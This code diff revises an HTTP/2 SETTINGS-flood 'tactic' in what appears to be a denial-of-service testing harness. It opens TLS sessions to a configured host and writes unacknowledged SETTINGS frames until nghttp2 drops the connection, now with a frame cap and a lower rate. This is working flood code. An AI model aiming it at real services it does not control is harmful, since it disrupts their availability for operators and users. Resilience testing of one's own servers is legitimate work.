@@ -127,10 +127,15 @@ const heldSessions: Tactic = {
 const begun = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
 const settings = '\0\0\0\x04\0\0\0\0\0'
 
+/** Enough that nghttp2 ends the session: it keeps a thousand acknowledgements. */
+const settingsSent = 4_000
+const settingsAtOnce = 400
+
 const unacknowledged: Tactic = {
   name: 'HTTP/2 sessions flooded with SETTINGS, again and again',
   attack: ({ securePort }, count, signal) =>
-    atRate({ perSecond: 100, atOnce: 16 }, signal, async () => {
+    atRate({ perSecond: 20, atOnce: 16 }, signal, async () => {
+      const { promise, resolve } = Promise.withResolvers<void>()
       const socket = connectTls({
         host,
         port: securePort,
@@ -138,12 +143,17 @@ const unacknowledged: Tactic = {
         ALPNProtocols: ['h2'],
       })
       socket.on('error', () => undefined).resume()
-      socket.once('close', () => count('closed'))
-      const { promise, resolve } = Promise.withResolvers<void>()
-      socket.once('close', () => resolve())
+      socket.once('close', () => {
+        count('closed')
+        resolve()
+      })
       socket.write(begun)
+      let left = settingsSent
       const more = (): void => {
-        if (!socket.destroyed) socket.write(settings.repeat(400), () => setImmediate(more))
+        left -= settingsAtOnce
+        if (left < 0) socket.destroy()
+        else if (!socket.destroyed)
+          socket.write(settings.repeat(settingsAtOnce), () => setImmediate(more))
       }
       socket.once('secureConnect', more)
       await promise
